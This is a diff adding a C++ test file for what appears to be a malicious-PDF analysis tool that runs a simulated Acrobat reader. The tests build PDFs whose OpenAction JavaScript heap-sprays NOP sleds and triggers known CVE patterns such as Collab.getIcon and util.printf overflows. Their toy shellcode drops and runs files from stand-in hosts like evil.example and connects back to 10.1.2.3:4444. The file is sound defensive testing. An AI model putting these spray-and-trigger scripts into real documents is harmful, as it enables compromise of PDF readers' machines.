@@ -1,0 +1,435 @@
+// Tests for the reader simulator + Acrobat JS API: trigger walking,
+// exploitation model (version gating, spray requirements, crashes),
+// shellcode execution through the hookable API surface, memory accounting.
+#include <gtest/gtest.h>
+
+#include "pdf/document.hpp"
+#include "pdf/parser.hpp"
+#include "pdf/writer.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "reader/vulnerability.hpp"
+#include "sys/kernel.hpp"
+
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+namespace {
+
+// Builds a one-page PDF whose /OpenAction runs `script`.
+sp::Bytes pdf_with_open_action(const std::string& script) {
+  pd::Document doc;
+  pd::Dict action;
+  action.set("S", pd::Object::name("JavaScript"));
+  action.set("JS", pd::Object::string(script));
+  const pd::Ref action_ref = doc.add_object(pd::Object(action));
+
+  pd::Dict page;
+  page.set("Type", pd::Object::name("Page"));
+  const pd::Ref page_ref = doc.add_object(pd::Object(page));
+
+  pd::Dict pages;
+  pages.set("Type", pd::Object::name("Pages"));
+  pages.set("Kids", pd::Object(pd::Array{pd::Object(page_ref)}));
+  pages.set("Count", pd::Object(1));
+  const pd::Ref pages_ref = doc.add_object(pd::Object(pages));
+
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  catalog.set("Pages", pd::Object(pages_ref));
+  catalog.set("OpenAction", pd::Object(action_ref));
+  const pd::Ref cat_ref = doc.add_object(pd::Object(catalog));
+
+  doc.trailer().set("Root", pd::Object(cat_ref));
+  return pd::write_document(doc);
+}
+
+// Spray loop reaching ~4 MiB physical (x64 scale = 256 MB reported), with
+// the shellcode program embedded in the payload unit.
+std::string spray_script(const std::string& shellcode,
+                         const char* target = "4194304") {
+  return "var unit = unescape('%u9090%u9090%u9090%u9090') + '" + shellcode +
+         "';"
+         "var spray = unit;"
+         "while (spray.length < " + std::string(target) + ") spray += spray;"
+         "var keep = spray;";
+}
+
+}  // namespace
+
+// ---------------------------------------------------------------------------
+// Shellcode wire format
+// ---------------------------------------------------------------------------
+
+TEST(Shellcode, EncodeExtractRoundTrip) {
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/m.exe", "c:/m.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
+  prog.ops.push_back({"HUNT", {"12"}});
+  prog.ops.push_back({"CONNECT", {"10.1.2.3", "4444"}});
+  const std::string wire = rd::encode_shellcode(prog);
+  const std::string memory = std::string(5000, '\x90') + wire + "trailer";
+  auto parsed = rd::extract_shellcode(memory);
+  ASSERT_TRUE(parsed.has_value());
+  ASSERT_EQ(parsed->ops.size(), 4u);
+  EXPECT_EQ(parsed->ops[0].op, "DROP");
+  EXPECT_EQ(parsed->ops[0].args,
+            (std::vector<std::string>{"http://evil/m.exe", "c:/m.exe"}));
+  EXPECT_EQ(parsed->ops[3].args, (std::vector<std::string>{"10.1.2.3", "4444"}));
+}
+
+TEST(Shellcode, ExtractReturnsNulloptWithoutMarker) {
+  EXPECT_FALSE(rd::extract_shellcode(std::string(1000, 'A')).has_value());
+  EXPECT_FALSE(rd::extract_shellcode("SC{unterminated").has_value());
+}
+
+TEST(Shellcode, ExecuteIssuesHookableApiCalls) {
+  sy::Kernel k;
+  auto& p = k.create_process("AcroRd32.exe");
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/m.exe", "c:/m.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
+  prog.ops.push_back({"HUNT", {"8"}});
+  const std::size_t calls = rd::execute_shellcode(k, p.pid(), prog);
+  EXPECT_EQ(calls, 10u);  // 1 drop + 1 exec + 8 hunt probes
+  EXPECT_TRUE(k.fs().exists("c:/m.exe"));
+  EXPECT_EQ(k.event_log().size(), 10u);
+}
+
+// ---------------------------------------------------------------------------
+// Vulnerability table
+// ---------------------------------------------------------------------------
+
+TEST(Vulns, TableLookupAndVersionGating) {
+  const rd::VulnSpec* v = rd::find_vulnerability("CVE-2009-0927");
+  ASSERT_NE(v, nullptr);
+  EXPECT_TRUE(rd::version_affected(*v, 9));
+  EXPECT_FALSE(rd::version_affected(*v, 11));
+  EXPECT_EQ(rd::find_vulnerability("CVE-1999-0000"), nullptr);
+
+  // The two noise CVEs must NOT affect Acrobat 8/9.
+  for (const char* cve : {"CVE-2009-1492", "CVE-2013-0640"}) {
+    const rd::VulnSpec* nv = rd::find_vulnerability(cve);
+    ASSERT_NE(nv, nullptr) << cve;
+    EXPECT_FALSE(rd::version_affected(*nv, 8)) << cve;
+    EXPECT_FALSE(rd::version_affected(*nv, 9)) << cve;
+  }
+}
+
+// ---------------------------------------------------------------------------
+// Reader basics
+// ---------------------------------------------------------------------------
+
+TEST(Reader, OpensBenignDocAndRunsJs) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(pdf_with_open_action("var x = 1 + 1;"), "a.pdf");
+  EXPECT_TRUE(r.parsed);
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);
+  EXPECT_TRUE(r.fired_cves.empty());
+  EXPECT_EQ(reader.open_count(), 1u);
+}
+
+TEST(Reader, UnparseableFileDoesNothing) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(sp::to_bytes("this is not a pdf"), "junk.bin");
+  EXPECT_FALSE(r.parsed);
+  EXPECT_FALSE(r.js_ran);
+  EXPECT_EQ(reader.open_count(), 0u);
+}
+
+TEST(Reader, RenderMemoryGrowsAndShrinksWithDocs) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  const std::uint64_t before = reader.process().memory_bytes();
+  auto file = pdf_with_open_action("var ok = true;");
+  reader.open_document(file, "a.pdf");
+  reader.open_document(file, "b.pdf");
+  const std::uint64_t during = reader.process().memory_bytes();
+  EXPECT_GT(during, before);
+  reader.close_all();
+  EXPECT_LT(reader.process().memory_bytes(), during);
+  EXPECT_EQ(reader.open_count(), 0u);
+}
+
+TEST(Reader, JsErrorsDoNotCrashReader) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(pdf_with_open_action("throw 'oops';"), "a.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);
+  auto r2 = reader.open_document(
+      pdf_with_open_action("this is a syntax error !!!"), "b.pdf");
+  EXPECT_FALSE(r2.crashed);
+}
+
+TEST(Reader, DocInfoVisibleToJavascript) {
+  // The extraction-evasion idiom: payload hidden in the title.
+  pd::Document doc;
+  pd::Dict info;
+  info.set("Title", pd::Object::string("needle-in-title"));
+  const pd::Ref info_ref = doc.add_object(pd::Object(info));
+  pd::Dict action;
+  action.set("S", pd::Object::name("JavaScript"));
+  action.set("JS", pd::Object::string(
+                       "var probe = this.info.Title;"
+                       "if (probe != 'needle-in-title') throw 'bad';"));
+  const pd::Ref a_ref = doc.add_object(pd::Object(action));
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  catalog.set("OpenAction", pd::Object(a_ref));
+  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
+  doc.trailer().set("Info", pd::Object(info_ref));
+
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(pd::write_document(doc), "t.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);  // the throw would not crash, but keep the probe honest
+}
+
+// ---------------------------------------------------------------------------
+// Exploitation model
+// ---------------------------------------------------------------------------
+
+TEST(Reader, FullExploitChainDropsAndExecutesMalware) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil.example/m.exe", "c:/m.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
+  const std::string script = spray_script(rd::encode_shellcode(prog)) +
+                             "Collab.getIcon(spray.substring(0, 2000));";
+  auto r = reader.open_document(pdf_with_open_action(script), "mal.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);
+  ASSERT_EQ(r.fired_cves.size(), 1u);
+  EXPECT_EQ(r.fired_cves[0], "CVE-2009-0927");
+  EXPECT_TRUE(k.fs().exists("c:/m.exe"));
+  // Dropped malware runs as a child process.
+  bool child_found = false;
+  for (const auto& [pid, proc] : k.processes()) {
+    if (proc->image() == "c:/m.exe") child_found = true;
+  }
+  EXPECT_TRUE(child_found);
+}
+
+TEST(Reader, ExploitWithoutSprayCrashesReader) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(
+      pdf_with_open_action("Collab.getIcon(unescape('%u4141') + "
+                           "new Array(3000).join('A'));"),
+      "crash.pdf");
+  EXPECT_TRUE(r.crashed);
+  EXPECT_TRUE(r.fired_cves.empty());
+  EXPECT_TRUE(reader.process().crashed());
+}
+
+TEST(Reader, PatchedCveDoesNothing) {
+  // CVE-2009-1492 on Acrobat 9: the paper's "58 samples did nothing" case.
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"EXEC", {"c:/m.exe"}});
+  const std::string script = spray_script(rd::encode_shellcode(prog)) +
+                             "this.getAnnots(-1);";
+  auto r = reader.open_document(pdf_with_open_action(script), "noop.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);
+  EXPECT_TRUE(r.fired_cves.empty());
+  ASSERT_EQ(r.attempted_cves.size(), 1u);
+  EXPECT_EQ(r.attempted_cves[0], "CVE-2009-1492");
+  EXPECT_FALSE(k.fs().exists("c:/m.exe"));
+}
+
+TEST(Reader, VersionGatingChangesOutcome) {
+  // util.printf overflow only works on Acrobat 8 in our table.
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"EXEC", {"c:/p.exe"}});
+  const std::string script = spray_script(rd::encode_shellcode(prog)) +
+                             "util.printf('%45000f', 1);";
+  {
+    sy::Kernel k;
+    rd::ReaderConfig cfg;
+    cfg.version = "8.0";
+    rd::ReaderSim reader(k, cfg);
+    auto r = reader.open_document(pdf_with_open_action(script), "v8.pdf");
+    EXPECT_EQ(r.fired_cves.size(), 1u);
+  }
+  {
+    sy::Kernel k;
+    rd::ReaderConfig cfg;
+    cfg.version = "9.0";
+    rd::ReaderSim reader(k, cfg);
+    auto r = reader.open_document(pdf_with_open_action(script), "v9.pdf");
+    EXPECT_TRUE(r.fired_cves.empty());
+    EXPECT_FALSE(r.crashed);
+  }
+}
+
+TEST(Reader, RenderContextExploitFiresAfterJs) {
+  // Flash-style CVE: JS only sprays; the exploit fires while rendering.
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/f.exe", "c:/f.exe"}});
+  pd::Document doc;
+  pd::Dict action;
+  action.set("S", pd::Object::name("JavaScript"));
+  action.set("JS",
+             pd::Object::string(spray_script(rd::encode_shellcode(prog))));
+  const pd::Ref a_ref = doc.add_object(pd::Object(action));
+  pd::Stream flash;
+  flash.dict.set("Type", pd::Object::name("EmbeddedFile"));
+  flash.dict.set("Subtype", pd::Object::name("Flash"));
+  flash.dict.set("CVE", pd::Object::string("CVE-2010-3654"));
+  flash.data = sp::to_bytes("malformed-swf");
+  doc.add_object(pd::Object(flash));
+  pd::Dict catalog;
+  catalog.set("Type", pd::Object::name("Catalog"));
+  catalog.set("OpenAction", pd::Object(a_ref));
+  doc.trailer().set("Root", pd::Object(doc.add_object(pd::Object(catalog))));
+
+  auto r = reader.open_document(pd::write_document(doc), "flash.pdf");
+  ASSERT_EQ(r.fired_cves.size(), 1u);
+  EXPECT_EQ(r.fired_cves[0], "CVE-2010-3654");
+  EXPECT_TRUE(k.fs().exists("c:/f.exe"));
+}
+
+TEST(Reader, DelayedScriptViaSetTimeOutRuns) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(
+      pdf_with_open_action("app.setTimeOut('probe_ran = 1; "
+                           "util.printf(\"late\");', 5000);"),
+      "delay.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_GE(r.scripts_executed, 2u);  // main + delayed
+}
+
+TEST(Reader, AddScriptQueuesStagedCode) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"EXEC", {"c:/staged.exe"}});
+  // Stage 1 sprays and installs stage 2, which triggers the exploit.
+  const std::string stage2 = "Collab.getIcon(keep.substring(0, 1500));";
+  const std::string stage1 = spray_script(rd::encode_shellcode(prog)) +
+                             "this.addScript('st2', '" + stage2 + "');";
+  auto r = reader.open_document(pdf_with_open_action(stage1), "staged.pdf");
+  EXPECT_GE(r.scripts_executed, 2u);
+  ASSERT_EQ(r.fired_cves.size(), 1u);
+  EXPECT_EQ(r.fired_cves[0], "CVE-2009-0927");
+}
+
+TEST(Reader, SoapEndpointServedLocally) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  std::vector<std::string> received;
+  reader.set_soap_endpoint(
+      "http://127.0.0.1:8777/", [&](const pdfshield::js::Value& payload) {
+        if (payload.is_object()) {
+          received.push_back(pdfshield::js::Interpreter::to_boolean(
+                                 payload.as_object()->get("op"))
+                                 ? "op"
+                                 : "no-op");
+        }
+        received.push_back("hit");
+        auto ok = pdfshield::js::make_object();
+        ok->set("status", pdfshield::js::Value("ok"));
+        return pdfshield::js::Value(ok);
+      });
+  auto r = reader.open_document(
+      pdf_with_open_action("var resp = SOAP.request({cURL: "
+                           "'http://127.0.0.1:8777/pdfshield', oRequest: "
+                           "{op: 'enter'}});"
+                           "if (resp.status != 'ok') throw 'bad';"),
+      "soap.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(received.empty());
+  // Local SOAP traffic must NOT appear in the network log.
+  EXPECT_TRUE(k.net().log().empty());
+}
+
+TEST(Reader, ExternalSoapGoesToNetwork) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  reader.open_document(
+      pdf_with_open_action("SOAP.request({cURL: 'http://evil.example/x', "
+                           "oRequest: {}});"),
+      "ext.pdf");
+  ASSERT_EQ(k.net().log().size(), 1u);
+  EXPECT_EQ(k.net().log()[0].host, "http://evil.example/x");
+}
+
+TEST(Reader, NetHttpUnavailableInsideDocument) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  auto r = reader.open_document(
+      pdf_with_open_action("var failed = false;"
+                           "try { Net.HTTP.request({}); } catch (e) { failed"
+                           " = true; }"
+                           "if (!failed) throw 'should have failed';"),
+      "net.pdf");
+  EXPECT_TRUE(r.js_ran);
+  EXPECT_FALSE(r.crashed);
+}
+
+TEST(Reader, CrashedReaderRefusesFurtherDocuments) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  reader.open_document(
+      pdf_with_open_action("Collab.getIcon(new Array(3000).join('B'));"),
+      "killer.pdf");
+  ASSERT_TRUE(reader.process().crashed());
+  auto r = reader.open_document(pdf_with_open_action("var x = 1;"), "next.pdf");
+  EXPECT_FALSE(r.js_ran);
+}
+
+TEST(Reader, CacheCompactionQuirkTriggersOnce) {
+  sy::Kernel k;
+  rd::ReaderConfig cfg;
+  cfg.cache_optimization_threshold = 40ull * 1024 * 1024;
+  rd::ReaderSim reader(k, cfg);
+  const auto file = pdf_with_open_action("var x = 0;");
+  std::vector<std::uint64_t> series;
+  for (int i = 0; i < 12; ++i) {
+    reader.open_document(file, "copy-" + std::to_string(i) + ".pdf");
+    series.push_back(reader.process().memory_bytes());
+  }
+  // Memory must dip somewhere (compaction) then resume growing.
+  bool dipped = false;
+  for (std::size_t i = 1; i < series.size(); ++i) {
+    if (series[i] < series[i - 1]) dipped = true;
+  }
+  EXPECT_TRUE(dipped);
+  EXPECT_GT(series.back(), series.front() / 2);
+}
+
+TEST(Reader, EggHuntShellcodeEmitsSearchApis) {
+  sy::Kernel k;
+  rd::ReaderSim reader(k);
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"HUNT", {"20"}});
+  prog.ops.push_back({"WRITE", {"c:/egg.exe", "embedded-malware"}});
+  prog.ops.push_back({"EXEC", {"c:/egg.exe"}});
+  const std::string script = spray_script(rd::encode_shellcode(prog)) +
+                             "this.media.newPlayer(null);";
+  auto r = reader.open_document(pdf_with_open_action(script), "egg.pdf");
+  ASSERT_EQ(r.fired_cves.size(), 1u);
+  int hunt_calls = 0;
+  for (const auto& e : k.event_log()) {
+    if (e.api == "NtAccessCheckAndAuditAlarm" || e.api == "IsBadReadPtr" ||
+        e.api == "NtDisplayString" || e.api == "NtAddAtom") {
+      ++hunt_calls;
+    }
+  }
+  EXPECT_EQ(hunt_calls, 20);
+  EXPECT_TRUE(k.fs().exists("c:/egg.exe"));
+}
